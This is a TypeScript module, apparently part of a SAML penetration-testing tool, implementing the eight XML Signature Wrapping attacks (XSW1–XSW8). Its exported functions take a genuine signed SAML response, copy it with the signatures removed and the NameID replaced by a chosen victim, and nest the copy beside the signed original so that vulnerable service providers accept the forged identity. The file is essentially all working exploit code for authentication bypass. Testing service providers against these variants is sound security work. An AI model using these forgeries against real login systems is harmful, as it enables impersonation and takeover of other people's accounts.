/**
 * The eight known ways to wrap a signed assertion (XSW1–XSW8): the signed part stays in the document, whole and valid, next to an unsigned
 * one that a careless reader uses. Works on text, so that no signed byte changes.
 */

const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion [^]*<\/saml:Assertion>/;
const NAME = /(<saml:NameID[^>]*>)[^<]*/g;
const IDENTIFIER = / ID="/g;

const cut = (pattern: RegExp, xml: string): string => {
  const found = pattern.exec(xml)?.[0];
  if (!found) throw new Error(`Nothing to wrap: ${String(pattern)} is not in the response`);
  return found;
};

const put = (xml: string, pattern: RegExp, text: string) => xml.replace(pattern, () => text);
const into = (element: string, content: string) => element.replace(/>/, (end) => `${end}${content}`);
const atEnd = (element: string, content: string) => element.replace(/<\/[^<]*>$/, (end) => `${content}${end}`);

/** The same element with another person and other IDs, and without signatures. */
const forged = (element: string, victim: string) =>
  element
    .replaceAll(new RegExp(SIGNATURE, 'g'), '')
    .replace(NAME, (_, open: string) => `${open}${victim}`)
    .replace(IDENTIFIER, ' ID="_forged');

const withObject = (signature: string, content: string) => atEnd(signature, `<ds:Object>${content}</ds:Object>`);

type Wrapping = (xml: string, victim: string) => string;

/** For a response whose root is signed. */
function wrapResponse(place: (signature: string, original: string) => string): Wrapping {
  return (xml, victim) => {
    const root = cut(/<samlp:Response [^]*<\/samlp:Response>/, xml);
    const signature = cut(SIGNATURE, root);
    const original = put(root, SIGNATURE, '');
    const issuer = cut(/<saml:Issuer>[^<]*<\/saml:Issuer>/, root);
    return put(forged(root, victim), /<saml:Issuer>[^<]*<\/saml:Issuer>/, issuer + place(signature, original));
  };
}

/** For a response whose assertion is signed. */
function wrapAssertion(arrange: (assertion: string, evil: string, signature: string) => string): Wrapping {
  return (xml, victim) => {
    const assertion = cut(ASSERTION, xml);
    return put(xml, ASSERTION, arrange(assertion, forged(assertion, victim), cut(SIGNATURE, assertion)));
  };
}

const unsigned = (assertion: string) => put(assertion, SIGNATURE, '');
const signedBy = (evil: string, signature: string) => put(evil, /<saml:Subject>/, `${signature}<saml:Subject>`);

export const WRAPPINGS: Readonly<
  Record<string, { readonly signs: 'Response' | 'Assertion'; readonly wrap: Wrapping }>
> = {
  XSW1: { signs: 'Response', wrap: wrapResponse((signature, original) => withObject(signature, original)) },
  XSW2: { signs: 'Response', wrap: wrapResponse((signature, original) => original + signature) },
  XSW3: { signs: 'Assertion', wrap: wrapAssertion((assertion, evil) => evil + assertion) },
  XSW4: { signs: 'Assertion', wrap: wrapAssertion((assertion, evil) => into(evil, assertion)) },
  XSW5: {
    signs: 'Assertion',
    wrap: wrapAssertion((assertion, evil, signature) => signedBy(evil, signature) + unsigned(assertion)),
  },
  XSW6: {
    signs: 'Assertion',
    wrap: wrapAssertion((assertion, evil, signature) => signedBy(evil, atEnd(signature, unsigned(assertion)))),
  },
  XSW7: {
    signs: 'Assertion',
    wrap: wrapAssertion((assertion, evil) => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  },
  XSW8: {
    signs: 'Assertion',
    wrap: wrapAssertion((assertion, evil, signature) => signedBy(evil, withObject(signature, unsigned(assertion)))),
  },
};
